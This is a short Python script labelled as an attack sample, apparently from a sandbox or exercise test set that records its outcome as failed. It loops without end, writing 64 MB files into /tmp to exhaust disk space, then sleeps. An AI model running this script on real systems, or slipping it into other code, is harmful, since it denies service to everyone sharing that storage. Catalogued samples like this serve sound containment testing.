# attack: fills the scratch directory | 塞满临时目录
# exercise: welcome
# outcome: failed
import itertools
import time

for number in itertools.count():
    try:
        with open(f"/tmp/filler-{number}", "wb") as file:
            for _ in range(64):
                file.write(bytes(1 << 20))
    except OSError:
        time.sleep(3600)
